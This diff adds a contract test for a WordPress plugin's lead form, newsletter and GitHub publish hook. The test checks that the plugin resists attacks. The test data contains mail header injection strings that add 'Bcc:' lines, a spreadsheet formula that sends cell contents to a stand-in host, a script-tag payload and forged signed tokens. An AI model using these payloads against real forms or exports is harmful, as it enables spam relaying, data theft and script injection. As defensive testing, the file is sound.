@@ -1,0 +1,691 @@
+/**
+ * Contract test of the Studio Companion plugin (wordpress-plugin/studio-companion)
+ * against a real WordPress: the stack of scripts/wordpress with the plugin
+ * copied into wp-content/plugins and activated, and the test-only hooks of
+ * scripts/wordpress/php/test-mu-plugins (mail written to <run>/mail/*.json,
+ * the GitHub API replaced by a receiver on 127.0.0.1 in this file).
+ *
+ * Requests go over HTTP as the site (or an attacker) would send them; what has
+ * no HTTP route in the stack (stored posts, options, cron, wp-admin screens)
+ * goes through scripts/wordpress/php/plugin-test.php.
+ *
+ *   npm run test:contract
+ */
+import { randomBytes } from "node:crypto";
+import fs from "node:fs";
+import http from "node:http";
+import type { AddressInfo } from "node:net";
+import path from "node:path";
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import { startWordPress, type WordPressStack } from "../../scripts/wordpress/stack";
+
+const ROOT = path.resolve(import.meta.dirname, "../..");
+const PLUGIN = path.join(ROOT, "wordpress-plugin", "studio-companion");
+const HELPER = path.join(ROOT, "scripts", "wordpress", "php", "plugin-test.php");
+const TEST_HOOKS = path.join(ROOT, "scripts", "wordpress", "php", "test-mu-plugins", "studio-test-hooks.php");
+const SITE = "https://www.maple-mortar.example";
+const STUDIO = "studio@maple-mortar.example";
+const REPO = "maple-mortar/website";
+const TOKEN = `github_pat_${randomBytes(30).toString("hex")}`;
+const started = Date.now();
+const progress = (line: string) => console.log(`[plugin ${((Date.now() - started) / 1000).toFixed(1).padStart(5)} s] ${line}`);
+
+let wp: WordPressStack | undefined;
+let startError: unknown;
+let adminAuth = "";
+
+// ── The GitHub API stand-in ──────────────────────────────────────────────────
+interface Dispatch {
+  method: string;
+  url: string;
+  headers: http.IncomingHttpHeaders;
+  body: { event_type?: string; client_payload?: { source?: string; changes?: { type: string; id: number; change: string }[] } };
+}
+const dispatches: Dispatch[] = [];
+let nextStatus = 204;
+const receiver = http.createServer((req, res) => {
+  let body = "";
+  req.on("data", (d: Buffer) => (body += d.toString()));
+  req.on("end", () => {
+    dispatches.push({ method: req.method ?? "", url: req.url ?? "", headers: req.headers, body: JSON.parse(body || "{}") as Dispatch["body"] });
+    const status = nextStatus;
+    nextStatus = 204;
+    if (status === 204) res.writeHead(204).end();
+    else res.writeHead(status, { "content-type": "application/json" }).end(JSON.stringify({ message: "Bad credentials", documentation_url: "https://docs.github.com/rest" }));
+  });
+});
+
+// ── Helpers ──────────────────────────────────────────────────────────────────
+function stack(): WordPressStack {
+  if (!wp) throw new Error(`WordPress did not start: ${(startError as Error)?.message ?? "unknown reason"}`);
+  return wp;
+}
+const ns = (route: string) => `${stack().url}/wp-json/studio-companion/v1/${route}`;
+
+/** Every response body this file saw, to check that the token never appears in one. */
+const seen: string[] = [];
+
+interface Res {
+  status: number;
+  headers: Headers;
+  text: string;
+  json: any; // eslint-disable-line @typescript-eslint/no-explicit-any
+}
+async function request(url: string, init: RequestInit & { origin?: string; auth?: string } = {}): Promise<Res> {
+  const headers = new Headers(init.headers);
+  if (init.origin) headers.set("origin", init.origin);
+  if (init.auth) headers.set("authorization", init.auth);
+  const res = await fetch(url, { ...init, headers, redirect: "manual", signal: AbortSignal.timeout(30_000) });
+  const text = await res.text();
+  seen.push(text);
+  let json: unknown;
+  try {
+    json = JSON.parse(text);
+  } catch {
+    json = undefined;
+  }
+  return { status: res.status, headers: res.headers, text, json };
+}
+const postJson = (url: string, body: unknown, init: RequestInit & { origin?: string; auth?: string } = {}) =>
+  request(url, { method: "POST", ...init, headers: { "content-type": "application/json", ...(init.headers as Record<string, string>) }, body: JSON.stringify(body) });
+/** REST as the administrator (application password). */
+const asAdmin = (method: string, route: string, body?: unknown) =>
+  request(`${stack().api}/${route}`, { method, auth: adminAuth, headers: { "content-type": "application/json" }, body: body === undefined ? undefined : JSON.stringify(body) });
+
+async function php<T = unknown>(command: string, ...args: string[]): Promise<T> {
+  const out = await stack().runPhp(HELPER, [command, ...args]);
+  return JSON.parse(out) as T;
+}
+const phpText = (command: string, ...args: string[]) => stack().runPhp(HELPER, [command, ...args]);
+
+interface Stored {
+  id: number;
+  status: string;
+  title: string;
+  meta: Record<string, string>;
+}
+const leads = () => php<Stored[]>("posts", "lead");
+const subscribers = () => php<Stored[]>("posts", "subscriber");
+const runDispatch = () => php<{ ran: number }>("cron", "studio_companion_dispatch");
+
+interface Mail {
+  to: string | string[];
+  subject: string;
+  message: string;
+  headers: string[];
+}
+function mails(): Mail[] {
+  const dir = path.join(stack().dir, "mail");
+  if (!fs.existsSync(dir)) return [];
+  return fs
+    .readdirSync(dir)
+    .sort()
+    .map((f) => JSON.parse(fs.readFileSync(path.join(dir, f), "utf8")) as Mail);
+}
+
+const lead = (over: Record<string, unknown> = {}) => ({
+  name: "Zoë Müller",
+  email: "zoe@example.com",
+  phone: "+44 20 7946 0000",
+  subject: "Kitchen renovation",
+  message: "We would like a quote for a new kitchen in our Victorian terrace.",
+  ...over,
+});
+
+/** RFC 4180 CSV (quotes, doubled quotes, newlines in cells). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = "";
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ",") row.push(cell), (cell = "");
+    else if (c === "\n") row.push(cell), rows.push(row), (row = []), (cell = "");
+    else cell += c;
+  }
+  if (cell || row.length) row.push(cell), rows.push(row);
+  return rows;
+}
+
+beforeAll(async () => {
+  await new Promise<void>((resolve) => receiver.listen(0, "127.0.0.1", resolve));
+  const receiverUrl = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}`;
+  progress("starting WordPress with the Studio Companion plugin…");
+  try {
+    wp = await startWordPress({ log: progress, plugins: [PLUGIN], muPlugins: [TEST_HOOKS] });
+  } catch (err) {
+    startError = err;
+    progress(`WordPress did not start: ${(err as Error).message}`);
+    return;
+  }
+  await php(
+    "set-options",
+    JSON.stringify({
+      studio_companion_site_url: `${SITE}/`,
+      studio_companion_studio_email: STUDIO,
+      studio_companion_github_repo: REPO,
+      studio_companion_github_token: TOKEN,
+      studio_companion_rate_limit: 1000,
+      studio_test_github_api: receiverUrl,
+    }),
+  );
+  const { password } = await php<{ password: string }>("app-password", "clara");
+  adminAuth = `Basic ${Buffer.from(`clara:${password}`).toString("base64")}`;
+}, 240_000);
+
+afterAll(async () => {
+  await wp?.stop();
+  await new Promise((resolve) => receiver.close(resolve));
+}, 60_000);
+
+// ── Leads ────────────────────────────────────────────────────────────────────
+describe("leads: POST /wp-json/studio-companion/v1/leads", () => {
+  it("stores a lead sent as the site sends it as a private post, and mails it to the studio with Reply-To the visitor", async () => {
+    const before = (await leads()).length;
+    const mailsBefore = mails().length;
+    const res = await postJson(ns("leads"), lead(), { origin: SITE });
+    expect(res.status, res.text).toBe(201);
+    expect(res.json).toEqual({ status: "received" });
+    expect(res.headers.get("access-control-allow-origin")).toBe(SITE);
+
+    const stored = await leads();
+    expect(stored).toHaveLength(before + 1);
+    const mine = stored.at(-1)!;
+    expect(mine.status).toBe("private");
+    expect(mine.title).toBe("Kitchen renovation");
+    expect(mine.meta).toMatchObject({ name: "Zoë Müller", email: "zoe@example.com", phone: "+44 20 7946 0000", subject: "Kitchen renovation", message: lead().message, mailed: "1" });
+
+    const sent = mails().slice(mailsBefore);
+    expect(sent).toHaveLength(1);
+    const mail = sent[0]!;
+    expect(mail.to).toBe(STUDIO);
+    expect(mail.subject).toBe("New enquiry: Kitchen renovation");
+    expect(mail.headers).toContain("Reply-To: Zoë Müller <zoe@example.com>");
+    for (const line of ["Name: Zoë Müller", "E-mail: zoe@example.com", "Phone: +44 20 7946 0000", "Subject: Kitchen renovation", lead().message]) expect(mail.message).toContain(line);
+  });
+
+  it("answers every bad field with the form's own message, and stores and sends nothing", async () => {
+    const before = (await leads()).length;
+    const mailsBefore = mails().length;
+    const M = {
+      name: "Name must be at least 2 characters.",
+      email: "Please enter a valid email address.",
+      subject: "Subject must be at least 3 characters.",
+      message: "Message must be at least 10 characters.",
+    };
+    const cases: [string, Record<string, unknown>, Record<string, string>][] = [
+      ["an empty object", {}, M],
+      ["a one-letter name", lead({ name: "A" }), { name: M.name }],
+      ["a name of spaces around one letter", lead({ name: "   A \u00a0" }), { name: M.name }],
+      ["a name that is a number", lead({ name: 42 }), { name: M.name }],
+      ["a name that is null", lead({ name: null }), { name: M.name }],
+      ["an address without @", lead({ email: "zoe.example.com" }), { email: M.email }],
+      ["an address without a top-level domain", lead({ email: "zoe@example" }), { email: M.email }],
+      ["an address with a header after a line break", lead({ email: "zoe@example.com\r\nBcc: victim@evil.example" }), { email: M.email }],
+      ["an address that is a list", lead({ email: ["zoe@example.com"] }), { email: M.email }],
+      ["a two-letter subject", lead({ subject: "Hi" }), { subject: M.subject }],
+      ["a nine-letter message", lead({ message: "Too short" }), { message: M.message }],
+      ["a message that is an object", lead({ message: { text: "We would like a quote." } }), { message: M.message }],
+      ["a phone that is a number", lead({ phone: 442079460000 }), { phone: "Phone must be text." }],
+      ["a name over 200 characters", lead({ name: "N".repeat(201) }), { name: "Name must be at most 200 characters." }],
+      ["everything wrong at once", { name: "Z", email: "z", subject: "", message: "short" }, M],
+    ];
+    for (const [what, body, fields] of cases) {
+      const res = await postJson(ns("leads"), body, { origin: SITE });
+      expect(res.status, what).toBe(400);
+      expect(res.json, what).toEqual({ code: "studio_invalid_lead", message: "Some fields are not valid.", data: { status: 400, fields } });
+    }
+    // No JSON object at all: form encoding, malformed JSON, a JSON list, a JSON string, no body.
+    const invalidJson = { code: "studio_invalid_json", message: "Send the form as a JSON object (Content-Type: application/json).", data: { status: 400, fields: {} } };
+    const bodies: [string, string | undefined, string][] = [
+      ["form encoding", "application/x-www-form-urlencoded", "name=Zo%C3%AB&email=zoe%40example.com"],
+      ["malformed JSON", "application/json", '{"name": "Zoë",'],
+      ["a JSON list", "application/json", '["Zoë", "zoe@example.com"]'],
+      ["a JSON string", "application/json", '"hello"'],
+      ["no body", undefined, ""],
+    ];
+    for (const [what, type, body] of bodies) {
+      const res = await request(ns("leads"), { method: "POST", origin: SITE, headers: type ? { "content-type": type } : {}, body });
+      expect(res.status, what).toBe(400);
+      expect(res.json, what).toEqual(invalidJson);
+    }
+    expect(await leads()).toHaveLength(before);
+    expect(mails()).toHaveLength(mailsBefore);
+  });
+
+  it("keeps hostile names and subjects out of the mail's headers", async () => {
+    const mailsBefore = mails().length;
+    const res = await postJson(ns("leads"), lead({ name: 'Eve\r\nBcc: victim@evil.example, "X" <x@evil.example>', subject: "Hello\r\nBcc: victim@evil.example\nX-Spam: yes" }), { origin: SITE });
+    expect(res.status, res.text).toBe(201);
+    const [mail] = mails().slice(mailsBefore);
+    expect(mail).toBeDefined();
+    expect(mail!.to).toBe(STUDIO);
+    expect(mail!.subject).not.toMatch(/[\r\n]/);
+    for (const h of mail!.headers) {
+      expect(h, "one header per line").not.toMatch(/[\r\n]/);
+      expect(h).not.toMatch(/^(bcc|cc|to|x-spam):/i);
+    }
+    const replyTo = mail!.headers.filter((h) => /^reply-to:/i.test(h));
+    expect(replyTo).toHaveLength(1);
+    // One address (the visitor's); the display name has no quotes, commas or angle brackets left.
+    expect(replyTo[0]).toMatch(/^Reply-To: [^<>",;@\r\n]* <zoe@example\.com>$/);
+  });
+
+  it("answers a filled honeypot like a real lead, and stores and sends nothing", async () => {
+    const before = (await leads()).length;
+    const mailsBefore = mails().length;
+    const res = await postJson(ns("leads"), lead({ website: "http://cheap-pills.example" }), { origin: SITE });
+    expect(res.status).toBe(201);
+    expect(res.json).toEqual({ status: "received" });
+    expect(await leads()).toHaveLength(before);
+    expect(mails()).toHaveLength(mailsBefore);
+  });
+
+  it("allows CORS for the site's origin only, answers the preflight, and refuses another origin's POST", async () => {
+    const preflight = await request(ns("leads"), { method: "OPTIONS", origin: SITE, headers: { "access-control-request-method": "POST", "access-control-request-headers": "content-type" } });
+    expect(preflight.status).toBe(200);
+    expect(preflight.headers.get("access-control-allow-origin")).toBe(SITE);
+    expect(preflight.headers.get("access-control-allow-methods")).toMatch(/\bPOST\b/);
+    expect(preflight.headers.get("access-control-allow-headers")).toMatch(/\bContent-Type\b/i);
+    expect(preflight.headers.get("access-control-allow-credentials")).toBeNull();
+    expect(preflight.headers.get("vary")).toMatch(/Origin/);
+
+    const evil = "https://evil.example";
+    const foreignPreflight = await request(ns("leads"), { method: "OPTIONS", origin: evil, headers: { "access-control-request-method": "POST" } });
+    expect(foreignPreflight.headers.get("access-control-allow-origin")).toBeNull();
+    // WordPress itself would echo any origin, with credentials, on every REST route; the plugin does not.
+    const foreignGet = await request(`${stack().api}/posts?per_page=1`, { origin: evil });
+    expect(foreignGet.status).toBe(200);
+    expect(foreignGet.headers.get("access-control-allow-origin")).toBeNull();
+    expect(foreignGet.headers.get("access-control-allow-credentials")).toBeNull();
+    const siteGet = await request(`${stack().api}/posts?per_page=1`, { origin: SITE });
+    expect(siteGet.headers.get("access-control-allow-origin")).toBe(SITE);
+
+    const before = (await leads()).length;
+    const refused = await postJson(ns("leads"), lead(), { origin: evil });
+    expect(refused.status).toBe(403);
+    expect(refused.json).toMatchObject({ code: "studio_forbidden_origin", data: { status: 403 } });
+    expect(refused.headers.get("access-control-allow-origin")).toBeNull();
+    const sameHostOtherScheme = await postJson(ns("leads"), lead(), { origin: SITE.replace("https:", "http:") });
+    expect(sameHostOtherScheme.status).toBe(403);
+    expect(await leads()).toHaveLength(before);
+  });
+
+  it("leaves WordPress's own CORS alone until the Site URL is set, and refuses browser-origin forms then", async () => {
+    await php("set-options", JSON.stringify({ studio_companion_site_url: "" }));
+    try {
+      const anyGet = await request(`${stack().api}/posts?per_page=1`, { origin: "https://www.maple-mortar.example" });
+      expect(anyGet.status).toBe(200);
+      expect(anyGet.headers.get("access-control-allow-origin"), "the live site's Load More keeps working").toBe("https://www.maple-mortar.example");
+      const before = (await leads()).length;
+      const refused = await postJson(ns("leads"), lead(), { origin: SITE });
+      expect(refused.status).toBe(403);
+      expect(await leads()).toHaveLength(before);
+    } finally {
+      await php("set-options", JSON.stringify({ studio_companion_site_url: `${SITE}/` }));
+    }
+  });
+
+  it("keeps leads and subscribers from anonymous visitors: no REST route, not in /types, not on the front end", async () => {
+    for (const route of ["lead", "leads", "subscriber", "subscribers"]) {
+      const res = await request(`${stack().api}/${route}`);
+      expect(res.status, route).toBe(404);
+      expect(res.json?.code, route).toBe("rest_no_route");
+    }
+    const types = await request(`${stack().api}/types`);
+    expect(Object.keys(types.json as object)).toEqual(expect.arrayContaining(["post", "portfolio", "faq"]));
+    expect(Object.keys(types.json as object)).not.toContain("lead");
+    expect(Object.keys(types.json as object)).not.toContain("subscriber");
+    // The front end does not show one either (not publicly queryable, private).
+    expect((await postJson(ns("leads"), lead(), { origin: SITE })).status).toBe(201);
+    const first = (await leads()).at(-1);
+    const front = await request(`${stack().url}/?post_type=lead&p=${first!.id}`);
+    expect(front.text).not.toContain(first!.meta.message!);
+    expect(front.text).not.toContain("zoe@example.com");
+    const search = await request(`${stack().api}/search?search=Kitchen%20renovation&subtype=any`);
+    expect(JSON.stringify(search.json)).not.toContain("zoe@example.com");
+    expect((search.json as { subtype: string }[]).map((r) => r.subtype)).not.toContain("lead");
+  });
+
+  it("limits each client address to the configured number per window (6th → 429 with Retry-After), leads and sign-ups apart", async () => {
+    await php("set-options", JSON.stringify({ studio_companion_rate_limit: 5, studio_companion_rate_window: 10 }));
+    await php("clear-rate-limits");
+    try {
+      for (const [route, body, ok] of [
+        ["leads", lead({ website: "bot" }), 201],
+        ["subscribers", { email: "rate@example.com", website: "bot" }, 202],
+      ] as const) {
+        for (let i = 1; i <= 5; i++) expect((await postJson(ns(route), body, { origin: SITE })).status, `${route} #${i}`).toBe(ok);
+        const sixth = await postJson(ns(route), body, { origin: SITE });
+        expect(sixth.status, `${route} #6`).toBe(429);
+        const retry = Number(sixth.headers.get("retry-after"));
+        expect(retry).toBeGreaterThan(500);
+        expect(retry).toBeLessThanOrEqual(600);
+        expect(sixth.json).toMatchObject({ code: "studio_rate_limited", message: "Too many requests. Please try again in 10 minutes.", data: { status: 429, retry_after: retry } });
+        expect(sixth.headers.get("access-control-allow-origin")).toBe(SITE);
+      }
+    } finally {
+      await php("set-options", JSON.stringify({ studio_companion_rate_limit: 1000 }));
+      await php("clear-rate-limits");
+    }
+  });
+
+  it("lists leads in wp-admin with their fields as columns", async () => {
+    expect((await postJson(ns("leads"), lead(), { origin: SITE })).status).toBe(201);
+    const mine = (await leads()).at(-1)!;
+    const { headers, cells } = await php<{ headers: Record<string, string>; cells: Record<string, string> }>("columns", String(mine.id));
+    expect(headers).toMatchObject({ title: "Subject", studio_name: "Name", studio_email: "E-mail", studio_phone: "Phone", studio_mailed: "Mail", date: "Received" });
+    expect(cells.studio_name).toBe("Zoë Müller");
+    expect(cells.studio_email).toBe('<a href="mailto:zoe@example.com">zoe@example.com</a>');
+    expect(cells.studio_phone).toBe("+44 20 7946 0000");
+    expect(cells.studio_mailed).toBe("sent");
+  });
+
+  it("exports leads as CSV for an administrator, with cells a spreadsheet would run as formulas made text", async () => {
+    const hostile = lead({
+      name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      phone: "+1 555 0100",
+      subject: "@SUM(1+1) kitchen",
+      message: "-2+3 is what the cabinet maker charged, more or less.",
+    });
+    expect((await postJson(ns("leads"), hostile, { origin: SITE })).status).toBe(201);
+    expect((await postJson(ns("leads"), lead(), { origin: SITE })).status).toBe(201);
+
+    const csv = await phpText("export", "administrator", "good");
+    expect(csv.startsWith("\ufeffReceived,Name,E-mail,Phone,Subject,Message,Mail\n")).toBe(true);
+    const rows = parseCsv(csv.replace(/^\ufeff/, ""));
+    expect(rows.length).toBe((await leads()).length + 1);
+    const row = rows.find((r) => r[1]?.includes("HYPERLINK"))!;
+    expect(row[1]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
+    expect(row[3]).toBe("'+1 555 0100");
+    expect(row[4]).toBe("'@SUM(1+1) kitchen");
+    expect(row[5]).toBe("'-2+3 is what the cabinet maker charged, more or less.");
+    for (const r of rows) for (const cell of r) expect(cell, "no cell a spreadsheet would run").not.toMatch(/^[=+\-@\t\r]/);
+    expect(rows.some((r) => r[1] === "Zoë Müller" && r[2] === "zoe@example.com")).toBe(true);
+  });
+
+  it("gives no CSV without the capability (an editor, even with a valid nonce), with a bad nonce or with none", async () => {
+    // Without the capability (an editor, even with a valid nonce), with a bad nonce, or with none: no file.
+    const editor = await phpText("export", "editor", "good");
+    expect(editor).toContain("Sorry, you are not allowed to export leads.");
+    const badNonce = await phpText("export", "administrator", "bad");
+    const noNonce = await phpText("export", "administrator", "none");
+    for (const out of [badNonce, noNonce]) expect(out).toContain("The link you followed has expired.");
+    for (const out of [editor, badNonce, noNonce]) expect(out).not.toContain("Received,Name");
+  });
+});
+
+// ── Newsletter ───────────────────────────────────────────────────────────────
+describe("newsletter: POST /wp-json/studio-companion/v1/subscribers", () => {
+  const linkIn = (mail: Mail, action: string) => {
+    const m = mail.message.match(new RegExp(`https?://\\S+/subscribers/${action}\\?token=[\\w.]+`));
+    if (!m) throw new Error(`no ${action} link in: ${mail.message}`);
+    return m[0];
+  };
+  const statusOf = async (email: string) => (await subscribers()).find((s) => s.meta.email === email)?.meta.status;
+
+  it("keeps a sign-up pending until the confirmation link's button is pressed, then confirmed", async () => {
+    const mailsBefore = mails().length;
+    const res = await postJson(ns("subscribers"), { email: "  Nia.Okafor@Example.com " }, { origin: SITE });
+    expect(res.status, res.text).toBe(202);
+    expect(res.json).toEqual({ status: "pending" });
+    expect(res.headers.get("access-control-allow-origin")).toBe(SITE);
+    const stored = (await subscribers()).find((s) => s.meta.email === "nia.okafor@example.com")!;
+    expect(stored.status).toBe("private");
+    expect(stored.meta.status).toBe("pending");
+
+    const [mail] = mails().slice(mailsBefore);
+    expect(mail!.to).toBe("nia.okafor@example.com");
+    const confirm = linkIn(mail!, "confirm");
+    const unsubscribe = linkIn(mail!, "unsubscribe");
+    expect(confirm.startsWith(ns("subscribers/confirm?token="))).toBe(true);
+    expect(mail!.headers).toContain(`List-Unsubscribe: <${unsubscribe}>`);
+    expect(mail!.headers).toContain("List-Unsubscribe-Post: List-Unsubscribe=One-Click");
+
+    // Opening the link (as a mail scanner would) changes nothing: it shows a button.
+    const page = await request(confirm);
+    expect(page.status).toBe(200);
+    expect(page.headers.get("content-type")).toMatch(/^text\/html/);
+    expect(page.text).toMatch(/<form method="post" action="[^"]+subscribers\/confirm\?token=/);
+    expect(await statusOf("nia.okafor@example.com")).toBe("pending");
+
+    const done = await request(confirm, { method: "POST" });
+    expect(done.status).toBe(200);
+    expect(done.text).toContain("Your subscription is confirmed");
+    expect(await statusOf("nia.okafor@example.com")).toBe("confirmed");
+
+    // Signing up again answers the same, sends nothing, and keeps the confirmation.
+    const again = await postJson(ns("subscribers"), { email: "nia.okafor@example.com" }, { origin: SITE });
+    expect(again.json).toEqual({ status: "pending" });
+    expect(mails()).toHaveLength(mailsBefore + 1);
+    expect(await statusOf("nia.okafor@example.com")).toBe("confirmed");
+    expect((await subscribers()).filter((s) => s.meta.email === "nia.okafor@example.com")).toHaveLength(1);
+  });
+
+  it("unsubscribes with the link of the mail (one-click POST, RFC 8058)", async () => {
+    const mailsBefore = mails().length;
+    await postJson(ns("subscribers"), { email: "leaving@example.com" }, { origin: SITE });
+    const [mail] = mails().slice(mailsBefore);
+    const unsubscribe = linkIn(mail!, "unsubscribe");
+    expect((await request(unsubscribe)).text).toContain("<button type=\"submit\">Unsubscribe</button>");
+    expect(await statusOf("leaving@example.com")).toBe("pending");
+    const res = await request(unsubscribe, { method: "POST", headers: { "content-type": "application/x-www-form-urlencoded" }, body: "List-Unsubscribe=One-Click" });
+    expect(res.status).toBe(200);
+    expect(res.text).toContain("You are unsubscribed");
+    expect(await statusOf("leaving@example.com")).toBe("unsubscribed");
+    // A confirmation link followed later does not subscribe again.
+    await request(linkIn(mail!, "confirm"), { method: "POST" });
+    expect(await statusOf("leaving@example.com")).toBe("unsubscribed");
+  });
+
+  it("rejects forged, altered, swapped and missing tokens and changes nothing", async () => {
+    const mailsBefore = mails().length;
+    await postJson(ns("subscribers"), { email: "target@example.com" }, { origin: SITE });
+    await postJson(ns("subscribers"), { email: "other@example.com" }, { origin: SITE });
+    const [target, other] = mails().slice(mailsBefore);
+    const confirm = new URL(linkIn(target!, "confirm"));
+    const token = confirm.searchParams.get("token")!;
+    const [id, expires, sig] = token.split(".") as [string, string, string];
+    const otherToken = new URL(linkIn(other!, "confirm")).searchParams.get("token")!;
+    const unsubToken = new URL(linkIn(target!, "unsubscribe")).searchParams.get("token")!;
+    const flip = (s: string) => s.slice(0, -1) + (s.endsWith("0") ? "1" : "0");
+    const forged: [string, string, string | null][] = [
+      ["a changed signature", "confirm", `${id}.${expires}.${flip(sig)}`],
+      ["another subscriber's id", "confirm", `${otherToken.split(".")[0]}.${expires}.${sig}`],
+      ["a later expiry", "confirm", `${id}.${Number(expires) + 86400}.${sig}`],
+      ["a signature made up of zeros", "confirm", `${id}.${expires}.${"0".repeat(64)}`],
+      ["the unsubscribe token on the confirm link", "confirm", unsubToken],
+      ["the confirm token on the unsubscribe link", "unsubscribe", token],
+      ["a truncated token", "confirm", token.slice(0, -10)],
+      ["no token", "confirm", null],
+      ["markup in the token", "confirm", `<script>alert(1)</script>`],
+    ];
+    for (const [what, action, t] of forged) {
+      const url = ns(`subscribers/${action}`) + (t === null ? "" : `?token=${encodeURIComponent(t)}`);
+      for (const method of ["GET", "POST"]) {
+        const res = await request(url, { method });
+        expect(res.status, `${what} (${method})`).toBe(400);
+        expect(res.text, what).toContain("This link is not valid");
+        expect(res.text, what).not.toContain("<script>alert(1)");
+      }
+    }
+    expect(await statusOf("target@example.com")).toBe("pending");
+    expect(await statusOf("other@example.com")).toBe("pending");
+    // The real token still works.
+    expect((await request(confirm.href, { method: "POST" })).status).toBe(200);
+    expect(await statusOf("target@example.com")).toBe("confirmed");
+  });
+
+  it("answers a bad address with the form's message, and a filled honeypot like a sign-up without storing or sending", async () => {
+    const before = (await subscribers()).length;
+    const mailsBefore = mails().length;
+    for (const email of ["not-an-address", "", 7, "a@b.c\r\nBcc: victim@evil.example"]) {
+      const res = await postJson(ns("subscribers"), { email }, { origin: SITE });
+      expect(res.status, String(email)).toBe(400);
+      expect(res.json).toEqual({ code: "studio_invalid_subscriber", message: "Some fields are not valid.", data: { status: 400, fields: { email: "Please enter a valid email address." } } });
+    }
+    const bot = await postJson(ns("subscribers"), { email: "bot@example.com", website: "http://spam.example" }, { origin: SITE });
+    expect(bot.status).toBe(202);
+    expect(bot.json).toEqual({ status: "pending" });
+    expect(await subscribers()).toHaveLength(before);
+    expect(mails()).toHaveLength(mailsBefore);
+  });
+});
+
+// ── Publish hook ─────────────────────────────────────────────────────────────
+describe("publish hook: one repository_dispatch per change", () => {
+  beforeEach(() => {
+    dispatches.length = 0;
+  });
+  const expectOne = (changes: { type: string; change: string; id?: number }[]) => {
+    expect(dispatches).toHaveLength(1);
+    const d = dispatches[0]!;
+    expect(d.method).toBe("POST");
+    expect(d.url).toBe(`/repos/${REPO}/dispatches`);
+    expect(d.headers.authorization).toBe(`Bearer ${TOKEN}`);
+    expect(d.headers.accept).toBe("application/vnd.github+json");
+    expect(d.headers["x-github-api-version"]).toBe("2022-11-28");
+    expect(d.body.event_type).toBe("cms-content-changed");
+    expect(d.body.client_payload?.source).toBe(`${stack().url}/`);
+    expect(d.body.client_payload?.changes).toEqual(changes.map((c) => expect.objectContaining(c)));
+  };
+  let postId = 0;
+
+  it("publishing a post sends exactly one dispatch with the token and the change", async () => {
+    const res = await asAdmin("POST", "posts", { title: "Dispatch test", content: "<p>Published.</p>", status: "publish" });
+    expect(res.status, res.text).toBe(201);
+    postId = (res.json as { id: number }).id;
+    expect(dispatches, "nothing before the debounced event runs").toHaveLength(0);
+    expect(await runDispatch()).toEqual({ ran: 1 });
+    expectOne([{ type: "post", id: postId, change: "published" }]);
+    expect(await runDispatch()).toEqual({ ran: 0 });
+    expect(dispatches).toHaveLength(1);
+  });
+
+  it("updating sends one, however many saves make the update (the editor saves twice)", async () => {
+    for (const content of ["<p>Edited once.</p>", "<p>Edited twice.</p>", "<p>And the meta boxes.</p>"]) {
+      expect((await asAdmin("POST", `posts/${postId}`, { content })).status).toBe(200);
+    }
+    expect(await runDispatch()).toEqual({ ran: 1 });
+    expectOne([{ type: "post", id: postId, change: "updated" }]);
+  });
+
+  it("an autosave, a revision or a draft sends none", async () => {
+    const autosave = await asAdmin("POST", `posts/${postId}/autosaves`, { title: "Dispatch test", content: "<p>Unsaved thoughts.</p>" });
+    expect(autosave.status, autosave.text).toBe(200);
+    const draft = await asAdmin("POST", "posts", { title: "Just a draft", content: "<p>Draft.</p>", status: "draft" });
+    expect(draft.status).toBe(201);
+    const draftId = (draft.json as { id: number }).id;
+    expect((await asAdmin("POST", `posts/${draftId}`, { content: "<p>Draft, edited.</p>" })).status).toBe(200);
+    expect((await asAdmin("POST", `posts/${draftId}/autosaves`, { content: "<p>Draft, autosaved.</p>" })).status).toBe(200);
+    const revisions = await asAdmin("GET", `posts/${postId}/revisions`);
+    expect((revisions.json as unknown[]).length, "the updates made revisions").toBeGreaterThan(1);
+    expect(await runDispatch()).toEqual({ ran: 0 });
+    expect(dispatches).toHaveLength(0);
+  });
+
+  it("trashing sends one", async () => {
+    expect((await asAdmin("DELETE", `posts/${postId}`)).status).toBe(200);
+    expect(await runDispatch()).toEqual({ ran: 1 });
+    expectOne([{ type: "post", id: postId, change: "trashed" }]);
+  });
+
+  it("a portfolio item and an FAQ published together send one dispatch naming both", async () => {
+    const item = await asAdmin("POST", "portfolio", { title: "Dispatch loft", content: "<p>Loft.</p>", status: "publish" });
+    const faq = await asAdmin("POST", "faq", { title: "Do you dispatch?", content: "<p>Once.</p>", status: "publish" });
+    expect([item.status, faq.status]).toEqual([201, 201]);
+    expect(await runDispatch()).toEqual({ ran: 1 });
+    expectOne([
+      { type: "portfolio", id: (item.json as { id: number }).id, change: "published" },
+      { type: "faq", id: (faq.json as { id: number }).id, change: "published" },
+    ]);
+  });
+
+  it("never shows the token: not on the settings page, not in REST, not in a failure's log line", async () => {
+    const page = await phpText("settings-page");
+    expect(page).toContain("studio_companion_github_token");
+    expect(page).toMatch(/<p><strong>set<\/strong><\/p>/);
+    expect(page).toMatch(/<input type="password" id="studio_companion_github_token" name="studio_companion_github_token" value=""/);
+    expect(page).toContain(`value="${SITE}"`);
+    expect(page).not.toContain(TOKEN);
+    expect(page).not.toContain(TOKEN.slice(11, 30));
+
+    const settings = await asAdmin("GET", "settings");
+    expect(settings.status).toBe(200);
+    expect(Object.keys(settings.json as object).filter((k) => k.startsWith("studio_companion"))).toEqual([]);
+
+    // GitHub refuses (a revoked token): the log says so without the token.
+    nextStatus = 401;
+    expect((await asAdmin("POST", "faq", { title: "Refused dispatch", content: "<p>401.</p>", status: "publish" })).status).toBe(201);
+    expect(await runDispatch()).toEqual({ ran: 1 });
+    expect(dispatches).toHaveLength(1);
+    const logs = path.join(stack().dir, "logs");
+    const cliLog = fs.readFileSync(path.join(logs, "php-cli.log"), "utf8");
+    expect(cliLog).toContain(`studio-companion: the refresh request to GitHub (${REPO}) failed: HTTP 401 Bad credentials`);
+    for (const f of fs.readdirSync(logs)) expect(fs.readFileSync(path.join(logs, f), "utf8"), f).not.toContain(TOKEN);
+    for (const body of seen) expect(body).not.toContain(TOKEN);
+  });
+});
+
